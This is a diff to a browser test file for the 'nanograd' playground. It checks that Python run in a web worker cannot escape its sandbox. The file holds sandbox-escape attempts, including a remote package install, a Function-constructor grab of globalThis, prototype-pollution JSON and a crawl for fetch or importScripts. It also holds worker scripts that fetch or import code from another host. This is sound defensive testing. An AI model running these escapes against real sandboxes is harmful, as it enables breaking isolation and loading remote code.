@@ -47,9 +47,11 @@ ESCAPES = {
         except StopIteration: print('out')""",
     "a package from another host": """
         import micropip
-        task = micropip.install('https://example.org/evil-1.0-py3-none-any.whl')
-        for _ in range(20): task.send(None)
-        print('held: nothing came')""",
+        task = micropip.install(STOLEN + 'package-1.0-py3-none-any.whl')
+        try:
+            for _ in range(20): task.send(None)
+        except StopIteration: print('out')
+        else: print('held if nothing is asked')""",
     "the door of compiled programs": """
         import _nanograd_webassembly as door
         print('out', door.Object.constructor('return globalThis')())""",
@@ -96,21 +98,23 @@ ESCAPES = {
         seen, found = [], [o for o in gc.get_objects() if isinstance(o, JsProxy)]
         held = [v for o in gc.get_objects() if isinstance(o, dict) for v in list(o.values()) if isinstance(v, JsProxy)]
         queue = found + held
+        doors = set()
         while queue and len(seen) < 600:
             one = queue.pop()
             if one.js_id in seen: continue
             seen.append(one.js_id)
             for name in dir(one):
-                if name in ('fetch', 'indexedDB', 'caches', 'BroadcastChannel', 'XMLHttpRequest', 'importScripts'):
-                    print('out:', name)
+                if name in DOORS.split(): doors.add(name)
                 try: inner = getattr(one, name)
                 except BaseException: continue
                 if isinstance(inner, JsProxy): queue.append(inner)
-        print('held', len(seen) > 20)""",
+        print('out' if doors else 'held', doors, len(seen))""",
 }
 POLLUTING = '{"code":"a*b","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'
 IN_A_SPEC = ('{"spec":', "}")
 OTHER_HOST = "https://example.org/"
+# Nothing of the page ever asks for this: a request below it is an attack's.
+STOLEN = "stolen/"
 IN_A_WORKER = """(host) => new Promise((done) => {
     const tries = [() => new Function('1'), () => fetch(host), () => import(host + 'x.js')]
     const script = `const host = ${JSON.stringify(host)}
@@ -119,6 +123,10 @@ IN_A_WORKER = """(host) => new Promise((done) => {
     const blob = new Blob([script], { type: 'text/javascript' })
     new Worker(URL.createObjectURL(blob), { type: 'module' }).onmessage = (event) => done(event.data)
 })"""
+ASK_IN_A_WORKER = """(address) => new Promise((done) => {
+    const script = `fetch(${JSON.stringify(address)}).finally(() => postMessage(0))`
+    new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' }))).onmessage = done
+}).then(() => null)"""
 TRY = """
 def attack_{number}():
     try:
@@ -139,14 +147,33 @@ ATTACKS = {**ESCAPES, **MISSING, **JAVASCRIPT, **PYTHON}
 """Each is a text of its own, tried in turn inside one program that came with a link."""
 
 
-def program(site: str) -> str:
-    """All attacks, one after the other; each is told from the next by its name in the output."""
+def program(site: str, *, by_name: bool = False) -> str:
+    """All attacks, one after the other; each is told from the next by its name in the output.
+
+    Where no output is shown, ``by_name`` lets the node's name say whether any of them got out.
+    """
     tried = "".join(
         TRY.format(name=name, number=number, code=textwrap.indent(textwrap.dedent(code), " " * 8))
         for number, (name, code) in enumerate(ATTACKS.items())
     )
-    head = f"DOORS, SITE = {' '.join(DOORS)!r}, {site!r}\n"
-    return f"{head}{tried}from nanograd import Value\nshown = Value(2.0, 'attempted')\n"
+    head = f"DOORS, SITE, STOLEN = {' '.join(DOORS)!r}, {site!r}, {site + STOLEN!r}\n"
+    name = "'attempted'"
+    if by_name:
+        head += "said = []\nprint = lambda *given: said.append(' '.join(map(str, given)))\n"
+        found = "[said[at - 1] for at, one in enumerate(said) if 'out' in one.split() and one[:2] != '<<']"
+        name = f"' '.join({found}) or 'attempted'"
+    return f"{head}{tried}from nanograd import Value\nshown = Value(2.0, {name})\n"
+
+
+def expect_held(playground: Playground) -> None:
+    """Waits for the attacks, and then for what they left behind to have had its turn."""
+    playground.expect_node("attempted", data="2.0000")
+    printed = playground.output.locator("pre").inner_text()
+    said = dict(re.findall(r"<<(.*?)>>\n(.*?)(?=<<|\Z)", printed, re.DOTALL))
+    assert said.keys() == ATTACKS.keys()
+    assert not {name: text for name, text in said.items() if "held" not in text or "out" in text.split()}
+    playground.leaf("attempted").press("ArrowRight")
+    playground.expect_node("attempted", data="2.0100")
 
 
 def test_no_way_out_of_the_worker_leads_anywhere(page: Page, site_url: str, watch: Watch) -> None:
@@ -155,16 +182,14 @@ def test_no_way_out_of_the_worker_leads_anywhere(page: Page, site_url: str, watc
     asked: list[str] = []
     page.on("request", lambda request: asked.append(request.url))
     page.goto(f"{site_url}#/expression?s={packed({'code': program(site_url)})}")
-    playground = Playground(page, site_url)
-    playground.expect_node("attempted", data="2.0000")
-    printed = playground.output.locator("pre").inner_text()
-    said = dict(re.findall(r"<<(.*?)>>\n(.*?)(?=<<|\Z)", printed, re.DOTALL))
-    assert said.keys() == ATTACKS.keys()
-    assert not {name: text for name, text in said.items() if "held" not in text or "out" in text.split()}
+    expect_held(Playground(page, site_url))
     assert page.title() == "nanograd: see backpropagation happen"
     # Python's own worker is a blob of the site's.
     own = site_url, f"blob:{page.evaluate('origin')}/"
-    assert not [url for url in asked if not url.startswith(own)]
+    assert not [url for url in asked if not url.startswith(own) or STOLEN in url]
+    watch.expect(f"answered 404: {site_url}{STOLEN}")
+    page.evaluate(ASK_IN_A_WORKER, site_url + STOLEN)
+    assert site_url + STOLEN in asked, "what a worker asks for is seen here"
 
 
 # What does not try to get out, but to stay, to lie or to use everything up. The page and the person's own Python go on.
